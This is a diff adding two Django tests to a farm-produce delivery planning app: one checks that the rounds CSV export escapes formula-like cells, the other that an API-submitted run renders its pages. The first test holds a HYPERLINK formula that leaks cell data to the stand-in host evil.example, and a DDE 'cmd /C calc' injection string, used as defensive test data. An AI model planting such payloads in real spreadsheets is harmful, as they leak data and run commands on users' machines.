@@ -406,3 +406,53 @@ def test_no_more_than_two_plans_are_computed_at_once(client: Client, people: Any
     PlanningRun.objects.update(created_at=timezone.now() - datetime.timedelta(hours=1))
     with pytest.raises(Exception, match="no order"):
         services.run_start({**problem, "orders": []}, by=people.camille)
+
+
+def test_the_rounds_csv_escapes_names_that_spreadsheets_would_read_as_formulas(
+    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
+) -> None:
+    week = make_week(territory)
+    farm = week["farms"][2]
+    farm.name = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    farm.save()
+    DeliveryOrder.objects.filter(producer=farm).update(description="-2+3+cmd|' /C calc'!A0")
+    client.force_login(people.camille)
+    with django_capture_on_commit_callbacks(execute=True):
+        run = plan_week(client, week)
+    text = client.get(f"/logistics/runs/{run.pk}/rounds.csv").content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")' in cells
+    assert "'-2+3+cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "@")) or cell.startswith("-2+") for cell in cells)
+
+
+def test_a_run_sent_through_the_api_with_a_shipment_has_its_pages(
+    client: Client, people: Any, territory: Any, django_capture_on_commit_callbacks: Any
+) -> None:
+    """A problem sent through the API has no names (labels): its pages name the orders by their ids."""
+    carrier = Actor.objects.create(name="Transports du Forez", is_carrier=True)
+    Membership.objects.create(user=people.hugo, actor=carrier, how="coordinator")
+    _token, key = api_token_create(user=people.hugo, name="planner", scope="write")
+    problem = {
+        "depots": [{"id": "atelier", "place": {"lat": 45.5497, "lon": 3.7417}, "hours": ["05:00", "20:00"]}],
+        "vehicles": [{"id": "camion-frigo", "depot": "atelier", "capacity_kg": 1200, "cold_kg": 800,
+                      "days": ["tue"], "hours": ["06:00", "16:00"]}],
+        "orders": [{"id": "fourme-supermarche", "kind": "shipment", "kg": 60, "cold": True, "value": 900,
+                    "producer": "gaec", "customer": "volcans", "days": ["tue"],
+                    "pickup": {"lat": 45.60, "lon": 3.70}, "delivery": {"lat": 45.78, "lon": 3.09}}],
+    }  # fmt: skip
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post(
+            "/api/v1/plans", {"problem": problem, "time_limit_s": 1}, content_type="application/json",
+            headers={"Authorization": f"Bearer {key}"},
+        )  # fmt: skip
+    assert response.status_code == 202, response.content
+    run = PlanningRun.objects.get(pk=response.json()["id"])
+    assert run.status == RunStatus.DONE and run.owner == carrier and run.labels == {}
+    client.force_login(people.hugo)
+    client.raise_request_exception = True
+    for tail in ("", "sheets/", "rounds.csv", "rounds.geojson"):
+        page = client.get(f"/logistics/runs/{run.pk}/{tail}")
+        assert page.status_code == 200, tail
+    text = client.get(f"/logistics/runs/{run.pk}/").content.decode()
+    assert "gaec" in text and "volcans" in text
